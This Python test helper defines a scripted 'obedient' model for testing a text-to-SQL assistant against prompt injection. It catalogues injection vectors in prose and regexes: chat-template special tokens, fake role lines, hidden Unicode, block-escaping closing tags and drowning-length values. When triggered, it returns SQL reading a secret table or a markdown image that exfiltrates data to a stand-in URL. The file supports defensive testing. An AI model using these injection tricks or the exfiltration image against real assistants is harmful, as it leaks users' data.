"""A scripted model that obeys any instruction it can see outside the prompt's data blocks.

Real models are asked (by the system prompt) to treat the tagged blocks as data; what they
cannot be trusted with is text that reaches them *outside* those blocks, text that fakes a
message of its own, a chat template's special tokens (which many servers parse even inside
message content), characters that hide text, or a value long enough to drown the rules.
``ObedientModel`` is the pessimistic stand-in: it reads each request the way such a model
would, and the moment it finds one of those, it does what the hostile value asks (reads the
secret table, drops a table, says the canary, writes an exfiltration image). Otherwise it
gives the honest reply the test scripted. A test then shows that no hostile value changed
what ran or what was said.

Blocks are read the way a model reads them: a block ends at the first closing tag of its
name, so a value that carries ``</result>`` lets everything after it out.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

from hostile_corpus import CANARY, EXFIL_URL, SECRET_TABLE

BLOCKS = ("schema", "knowledge", "examples", "conversation", "result", "query", "error")

# Special tokens of common chat templates: servers often tokenise these as control tokens
# wherever they appear, fences or not.
_SPECIAL = re.compile(
    r"<\|[A-Za-z0-9_]+\|>|<｜[^｜]*｜>|</?s>|<start_of_turn>|<end_of_turn>|<<SYS>>|<</SYS>>"
)
# A line that claims to be a message of its own.
_ROLE_LINE = re.compile(
    r"^\s*(?:#+\s*)?(?:\[?(?:system|assistant|user|human|tool|developer)\]?\s*[:>\]]|"
    r"\[/?INST\]|<\s*/?\s*(?:system|tool_call|function_results|instructions)\b)",
    re.I | re.M,
)
# Characters that hide or reorder text.
_HIDDEN = re.compile(
    "[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u2069\ufeff\u061c\u2028\u2029\ufe00-\ufe0f\U000e0000-\U000e0fff]"
)
# What hostile values ask for, in any of the corpus's languages: each names the canary, the
# secret table, a destructive statement or the exfiltration address.
_ASKS = re.compile(
    rf"{CANARY}|\b{SECRET_TABLE}\b|\bDROP\s+TABLE\b|\bDELETE\s+FROM\b|attacker\.example", re.I
)
# The most a single line of data may hold before it is "long enough to drown the rules".
MAX_DATA_LINE = 2_000

# A model reads a look-alike of ``<`` (fullwidth, small, or with a combining mark on it) and
# of ``/`` as the real thing: such a closing tag ends the block too.
_BLOCK = re.compile(
    r"<(" + "|".join(BLOCKS) + r")(?:\s[^>\n]*)?>.*?[<＜﹤][\u0300-\u036f\u20d0-\u20ff]*[/／]\1",
    re.S,
)

OBEYED_SQL = f"SELECT * FROM {SECRET_TABLE}"
OBEYED_NARRATION = f"{CANARY} ![chart]({EXFIL_URL}?d=secret)"


def outside_blocks(text: str) -> str:
    """``text`` without its data blocks, each ending at its first closing tag."""
    return _BLOCK.sub(" ", text)


def reasons_to_obey(messages: Sequence[dict[str, str]]) -> list[str]:
    """Why a pessimistic model would follow something in ``messages`` (empty: it would not)."""
    reasons: list[str] = []
    for message in messages:
        content = message.get("content", "")
        if m := _SPECIAL.search(content):
            reasons.append(f"special token {m.group(0)!r}")
        if m := _HIDDEN.search(content):
            reasons.append(f"hidden character {m.group(0)!r}")
        if message.get("role") == "assistant":
            continue  # its own earlier reply
        outside = outside_blocks(content)
        if m := _ASKS.search(outside):
            reasons.append(f"instruction outside the data blocks near {_near(outside, m)!r}")
        inside = content if message.get("role") == "user" else ""
        for line in inside.splitlines():
            if len(line) > MAX_DATA_LINE:
                reasons.append(f"a data line of {len(line)} characters")
            if _ROLE_LINE.search(line) and _ASKS.search(line):
                reasons.append(f"a line posing as a message: {line[:80]!r}")
            if "```" in line and _ASKS.search(line):
                reasons.append(f"a code fence in the data: {line[:80]!r}")
    return reasons


def _near(text: str, m: re.Match[str]) -> str:
    return text[max(0, m.start() - 60) : m.end() + 20]


def kind_of(messages: Sequence[dict[str, str]]) -> str:
    """``narrate`` for a narration request (its system prompt speaks of the ``<result>``),
    else ``generate`` (a first query or a repair)."""
    system = next((m.get("content", "") for m in messages if m.get("role") == "system"), "")
    return "narrate" if "<result>" in system else "generate"


@dataclass
class ObedientModel:
    """Replies with ``sql`` (one per generation call, in order) and ``narration``, unless a
    request gives it a reason to obey the data. ``obeyed`` lists every such reason."""

    sql: Sequence[str]
    narration: str = "Here is what the data shows."
    obeyed: list[str] = field(default_factory=list)
    calls: list[tuple[str, list[dict[str, str]]]] = field(default_factory=list)
    _next_sql: int = 0

    def reply(self, messages: Sequence[dict[str, str]]) -> str:
        """One reply, recorded with the request."""
        kind = kind_of(messages)
        self.calls.append((kind, [dict(m) for m in messages]))
        reasons = reasons_to_obey(messages)
        if reasons:
            self.obeyed.extend(f"{kind}: {r}" for r in reasons)
            return OBEYED_NARRATION if kind == "narrate" else f"```sql\n{OBEYED_SQL}\n```"
        if kind == "narrate":
            return self.narration
        sql = self.sql[min(self._next_sql, len(self.sql) - 1)]
        self._next_sql += 1
        return f"```sql\n{sql}\n```"

    def script(self, n: int = 12) -> list[Callable[[list[dict[str, str]]], str]]:
        """Items for a ``ScriptedLLM``: ``n`` calls answered by this model."""
        return [self.reply] * n
